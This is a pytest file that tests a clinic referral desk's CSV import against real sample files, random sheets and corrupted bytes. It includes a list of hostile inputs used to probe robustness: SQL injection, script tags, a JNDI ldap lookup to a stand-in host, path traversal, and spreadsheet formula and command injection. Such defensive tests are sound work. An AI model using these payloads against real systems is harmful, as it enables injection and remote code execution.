"""What an import makes of every real file we were given, of hostile text, and of random sheets."""

from __future__ import annotations

import csv
import logging
import random
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from refdesk.domain.errors import RefDeskError, UserError
from refdesk.services.changes import Changes
from refdesk.services.incoming import IMPORTED, Incoming
from refdesk.services.session import Desk
from refdesk.services.transfer import ImportResult, Transfer
from refdesk.services.work import Silent
from tests.exchange.test_real_files import REFUSED, TABLES, shared
from tests.helpers.desks import make_desk
from tests.helpers.imports import everything
from tests.helpers.invented import fill

# --- every real file ----------------------------------------------------------------------------

WHAT = "Say what the rows of this file are."
HEADINGS = "The first line does not look like headings."
LACKS = "No column of the file is known to hold: {}."

# What a file is taken for, and what its rows come to on an empty desk, or the sentence that asks.
# Every other table of `TABLES` holds nothing of a clinic: its reader is asked what the rows are.
KNOWN: dict[str, tuple[str, dict[str, int] | str]] = {
    "contacts_csv/outlook.csv": ("person", {"created": 1, "rejected": 2}),
    "csv_bad_users/users.csv": ("person", {"created": 1}),
    "csv_bad_users/users_html_escaped.csv": ("person", {"created": 1}),
    "csv_duckdb/auto/14177.csv": ("promise", HEADINGS),
    "csv_duckdb/auto/mock_duckdb_test_data.csv": (
        "practice",
        {"created": 7, "updated": 1, "rejected": 1},
    ),
    "csv_duckdb/auto/sample.csv": ("practice", {"created": 3}),
    "csv_duckdb/auto/single_header.csv": ("visit", LACKS.format("Practice")),
    "csv_duckdb/auto/skip_row.csv": ("visit", LACKS.format("Practice")),
    "csv_duckdb/auto/time.csv": ("appointment", LACKS.format("Referral, Date")),
    "csv_duckdb/auto/utf8bom.csv": ("practice", {"created": 2}),
    "csv_duckdb/encodings/latin1.csv": ("practice", {"created": 12}),
    "csv_duckdb/encodings/utf16.csv": ("practice", {"created": 20}),
    "csv_spectrum/comma_in_quotes.csv": ("person", {"created": 1}),
    "nppes/endpoint_pfile_first50.csv": ("nppes_endpoints", {"skipped": 50}),
    "nppes/npidata_2016_rows9002-10001_41col.csv": ("nppes", {"created": 953, "skipped": 47}),
    "nppes/npidata_pfile_sample8_330col.csv": ("nppes", {"created": 7, "skipped": 1}),
    "nppes/othername_pfile_first50.csv": ("nppes_names", {"skipped": 50}),
    "nppes/pl_pfile_first50.csv": ("nppes_locations", {"skipped": 50}),
    "synthea_csv/encounters.csv": ("person", {"created": 51, "duplicate": 553}),
    "synthea_csv/organizations.csv": ("practice", {"created": 63}),
    "synthea_csv/patients.csv": ("patient", {"created": 27}),
    "synthea_csv/payers.csv": ("practice", {"created": 10}),
    "synthea_csv/providers.csv": ("person", {"created": 137, "rejected": 29}),
}
ROWS = {name: rows for name, _columns, _first, rows, *_rest in TABLES}
SAVING = [name for name, (_what, comes) in KNOWN.items() if "created" in comes]


@pytest.fixture(scope="module")
def untouched(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    """An empty desk where files are looked at only."""
    with make_desk(tmp_path_factory.mktemp("untouched") / "desk") as opened:
        yield opened
        assert not any(state(opened)[kind] for kind in SHEETS)


@pytest.mark.parametrize("name", ROWS)
def test_every_real_table_comes_to_what_is_expected(name, untouched):
    what, comes = KNOWN.get(name, ("", WHAT))
    coming = Transfer(untouched).begin(shared(name))
    assert coming.what == what
    assert coming.recognised == bool(what)
    if isinstance(comes, str):
        with pytest.raises(UserError) as refused:
            coming.look(Silent())
        assert refused.value.message.startswith(comes)
        return
    look = coming.look(Silent())
    assert {one.value: count for one, count in look.counts.items() if count} == comes
    assert look.rows == sum(comes.values()) == ROWS[name]
    look.close()


@pytest.mark.parametrize("name", SAVING)
def test_what_was_promised_of_a_real_file_comes_in_and_is_taken_back_whole(name, desk):
    before = state(desk)
    result = bring(desk, shared(name))
    _what, comes = KNOWN[name]
    assert isinstance(comes, dict)
    assert {one: count for one, count in told(result).items() if count} == comes
    assert all(row.reason.endswith(".") for row in result.rejected)
    assert desk.verify() == []
    again = bring(desk, shared(name))
    assert (again.created, again.updated) == (0, 0)
    Changes(desk).undo(result.change)
    assert state(desk) == before
    assert desk.verify() == []


@pytest.mark.parametrize(("name", "sentence"), REFUSED)
def test_a_real_file_that_is_no_table_is_refused_by_the_import_too(name, sentence, untouched):
    with pytest.raises(UserError, match=sentence):
        Transfer(untouched).begin(shared(name)).look(Silent())


def test_the_table_names_only_files_that_are_read():
    assert set(KNOWN) <= set(ROWS)


# --- what the tests share -----------------------------------------------------------------------


def state(desk: Desk) -> dict[str, list[object]]:
    """Return every row of the desk; reports of imports only ever grow."""
    found = everything(desk)
    del found["import_run"]
    return found


def told(result: ImportResult) -> dict[str, int]:
    return {
        "created": result.created,
        "updated": result.updated,
        "unchanged": result.unchanged,
        "duplicate": result.duplicates,
        "rejected": len(result.rejected),
        "skipped": result.skipped,
    }


def begin(desk: Desk, path: Path, what: str = "") -> Incoming:
    """Open a file and have it add whatever its rows name."""
    coming = Transfer(desk).begin(path)
    if what:
        coming.choose_what(what)
    for one in coming.brings:
        coming.bring(one.field, on=True)
    return coming


def bring(desk: Desk, path: Path, what: str = "") -> ImportResult:
    coming = begin(desk, path, what)
    look = coming.look(Silent())
    try:
        return Transfer(desk).apply(coming, look, Silent())
    finally:
        look.close()


def write(path: Path, rows: Sequence[Sequence[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(rows)
    return path


# --- hostile text -------------------------------------------------------------------------------

NAUGHTY = (
    "\u202eevil drawkcab",
    "\u0645\u0631\u0643\u0632 \u0627\u0644\u0637\u0628 \u0627\u0644\u0631\u064a\u0627\u0636\u064a",
    "\u200f\u05e2\u05d1\u05e8\u05d9\u05ea\u200e mixed",
    "\U0001f469\u200d\u2695\ufe0f\U0001f468\U0001f3fd\u200d\u2695\ufe0f",
    "\U0001f3f3\ufe0f\u200d\U0001f308 Pride Clinic",
    "zero\u200bwidth\u200cjoiner\u200d",
    "\ufeffbegins with a mark",
    "Robert'); DROP TABLE practice;--",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "<b onmouseover=x>bold</b>&amp;&#x41;",
    "${jndi:ldap://nowhere.example/a}",
    "{name} %s %(x)s {0!r}",
    "../../../etc/passwd",
    r"C:\nul\con\aux",
    "n" * 5_000,
    "Z\u0337\u0321a\u0338\u0322l\u0336g\u0335o\u0334" + "\u0336" * 60,
    "Ame\u0301lie A\u030a",
    r"\ud83d\ude00 \uD800",
    "\x01\x02\x1b[31mred\x7f",
    "line one\nline two\r\nline three",
    "tab\there",
    '=HYPERLINK("http://nowhere.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=1+1",
    "null undefined NaN",
    "   \u00a0\u3000  ",
    "\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18\uff19\uff10 \u2177 \xbd",
    "2026-02-31",
    "99999999999999999999999",
    "1e309",
    "\ufdfa \ufdfd \u0130\u0131\u017f\xdf\u0152",
)
SOUND = {
    "practice": {
        "Practice name": "Weir Clinic {}",
        "Phone": "740-555-0117",
        "Notes": "",
        "Tier": "",
    },
    "person": {"Doctor": "Quill, Ada{}", "Role": "Nurse", "Phone": "", "Birthday": "", "Notes": ""},
    "patient": {"Name": "Tam, Ivo{}", "Date of birth": "1980-02-03", "Phone": "", "Notes": ""},
    "referral": {
        "Patient": "Tam, Ivo{}",
        "Patient DOB": "1980-02-03",
        "Patient phone": "",
        "Received": "2026-11-02",
        "Referring practice": "Weir Clinic",
        "Referring physician": "Quill, Ada",
        "Notes": "",
    },
}
LETTERS = [f"{one}{other}" for one in "abcdef" for other in "abcdefgh"]
CASES = [(what, column) for what, columns in SOUND.items() for column in columns]


def hostile(what: str, column: str) -> list[list[str]]:
    """Return a header and sound rows, each with one hostile text in the column."""
    columns = SOUND[what]
    rows = [
        [naughty if name == column else sound.format(letters) for name, sound in columns.items()]
        for naughty, letters in zip(NAUGHTY, LETTERS, strict=False)
    ]
    return [list(columns), *rows]


@pytest.mark.parametrize(("what", "column"), CASES)
def test_hostile_text_comes_in_or_is_rejected_with_a_sentence(what, column, desk, tmp_path, caplog):
    caplog.set_level(logging.DEBUG)
    before = state(desk)
    path = write(tmp_path / "list.csv", hostile(what, column))
    first = bring(desk, path, what)
    assert first.rows == sum(told(first).values())
    assert first.rows >= len(NAUGHTY) - 1  # what is blank throughout may be no row
    assert all(row.reason.strip().endswith(".") for row in first.rejected)
    assert desk.verify() == []
    after = state(desk)
    again = bring(desk, path, what)
    assert (again.created, again.updated) == (0, 0)
    assert state(desk) == after
    logged = "\n".join(record.getMessage() for record in caplog.records)
    assert not [one for one in NAUGHTY if one.strip() and one[:40] in logged]
    if first.change is not None:
        Changes(desk).undo(first.change)
    assert state(desk) == before


# --- any sheet ----------------------------------------------------------------------------------

POOLS: dict[str, tuple[str, ...]] = {
    "clinic": (
        "Cedar Grove",
        "cedar grove ",
        "Weir Clinic",
        "TAMSIN FAMILY",
        "Überheim",
        "N/A",
        "",
    ),
    "doctor": ("Dr. Ada Quill", "Quill, Ada", "Sorrel, Ada, MD", "Okafor, Nkem", "PRYOR JO", ""),
    "patient": ("Vance, Marisol", "Ivo Tam", "TAM, IVO", "Novák, Petr", "Osgood, Mabel"),
    "phone": ("740-555-0117", "7405550118.0", "(740) 555-0119 x4", "555", "", "740-555-0101"),
    "day": ("2026-11-02", "11/3/2026", "46329", "3-Nov-26", "soon", "2026-02-31", ""),
    "birth": ("1938-01-10", "2/3/80", "1980-02-03", "", "Feb 30"),
    "zip": ("2134", "45701-0012", "45701", "", "ABC"),
    "word": ("A", "b", "gold", "", "Nurse", "md"),
    "stage": ("new", "contacting", "", "", "booked"),
    "urgency": ("urgent", "Routine", "", "asap", "gold"),
    "note": ("", "by the mill", "“smart” quotes", "CafÃ©", " trailing ", "N/A"),
}
SHEETS: dict[str, dict[str, str]] = {
    "practice": {
        "Practice name": "clinic",
        "Phone": "phone",
        "Fax": "phone",
        "Tier": "word",
        "Address": "note",
        "City": "note",
        "ZIP": "zip",
        "Notes": "note",
        "EHR": "note",
    },
    "person": {
        "Doctor": "doctor",
        "Role": "word",
        "Practice": "clinic",
        "Phone": "phone",
        "Practice phone": "phone",
        "Birthday": "birth",
        "Notes": "note",
    },
    "referral": {
        "Patient": "patient",
        "Patient DOB": "birth",
        "Patient phone": "phone",
        "Received": "day",
        "Referring physician": "doctor",
        "Referring practice": "clinic",
        "Status": "stage",
        "Urgency": "urgency",
        "Reason": "note",
    },
}


def any_sheet(choose: random.Random, what: str, count: int = 40) -> list[list[str]]:
    """Return a header in some order, and rows drawn from the pools."""
    headings = list(SHEETS[what])
    choose.shuffle(headings)
    pools = [POOLS[SHEETS[what][heading]] for heading in headings]
    return [headings, *([choose.choice(pool) for pool in pools] for _row in range(count))]


@pytest.mark.parametrize(
    "seed", [0, *(pytest.param(seed, marks=pytest.mark.long) for seed in range(1, 4))]
)
@pytest.mark.parametrize("what", SHEETS)
def test_any_sheet_comes_in_once_and_is_taken_back_whole(what, seed, desk, tmp_path):
    fill(desk)
    path = write(tmp_path / "list.csv", any_sheet(random.Random(seed), what))
    before = state(desk)
    first = bring(desk, path, what)
    assert first.created
    after = state(desk)
    assert after != before
    again = bring(desk, path, what)
    assert (again.created, again.updated, again.change) == (0, 0, None)
    assert state(desk) == after
    assert desk.verify() == []
    Changes(desk).undo(first.change)
    assert state(desk) == before
    Changes(desk).redo()
    assert state(desk) == after
    assert desk.verify() == []


def test_imports_are_taken_back_one_after_the_other(desk, tmp_path):
    fill(desk)
    choose, states, changes = random.Random(7), [state(desk)], []
    for what in (*SHEETS, *SHEETS):
        result = bring(desk, write(tmp_path / "list.csv", any_sheet(choose, what)), what)
        changes.append(result.change)
        states.append(state(desk))
    for change in reversed(changes):
        assert state(desk) == states.pop()
        if change is not None:
            Changes(desk).undo(change)
    assert state(desk) == states.pop()
    assert desk.verify() == []


def garbage(choose: random.Random) -> str:
    """Return a cell that nobody typed."""
    ranges = ((0x20, 0x7E), (0x1, 0x1F), (0xA0, 0x17F), (0x300, 0x36F), (0x2000, 0x20CF))
    low, high = choose.choice((*ranges, (0x30, 0x39), (0xFE00, 0xFFFF), (0x1F300, 0x1FAFF)))
    return "".join(chr(choose.randint(low, high)) for _letter in range(choose.randint(0, 24)))


@pytest.mark.parametrize("what", [of.kind for of in IMPORTED])
def test_no_garbage_makes_a_traceback(what, desk, tmp_path):
    choose = random.Random(what)
    names = [target.name for target in begin_blank(desk, tmp_path, what).targets]
    for turn in range(3):
        columns = [name for name in names if choose.random() < 0.6]
        rows = [[garbage(choose) for _column in columns] for _row in range(30)]
        path = write(tmp_path / f"{turn}.csv", [columns, *rows])
        result = attempt(desk, path, what)
        if result is not None:
            assert result.rows == sum(told(result).values())
    assert desk.verify() == []


def begin_blank(desk: Desk, tmp_path: Path, what: str) -> Incoming:
    return begin(desk, write(tmp_path / "blank.csv", [["Name"], ["Weir"]]), what)


def attempt(desk: Desk, path: Path, what: str) -> ImportResult | None:
    """Bring a file in; a sentence that refuses it is an answer too."""
    try:
        return bring(desk, path, what)
    except RefDeskError as error:
        refusal = error.message
    assert refusal.endswith(".")
    return None


def spoilt(choose: random.Random, whole: bytes) -> Iterator[bytes]:
    """Yield a file with some of its bytes replaced, cut off, doubled or taken out."""
    for _turn in range(25):
        at, length = choose.randrange(len(whole)), choose.randint(1, 40)
        other = choose.choice(
            (choose.randbytes(length), b"", b"\0" * length, whole[at : at + length] * 3, b'"\r\n,')
        )
        yield whole[:at] + other + whole[at + length :]
        yield whole[:at]
    yield choose.randbytes(2_000)


@pytest.mark.parametrize("what", SHEETS)
def test_a_spoilt_file_is_read_or_refused_with_a_sentence(what, desk, tmp_path):
    choose: Any = random.Random(what)
    whole = write(tmp_path / "whole.csv", any_sheet(choose, what)).read_bytes()
    for number, content in enumerate(spoilt(choose, whole)):
        path = tmp_path / f"{number}.csv"
        path.write_bytes(content)
        attempt(desk, path, what)
    assert desk.verify() == []
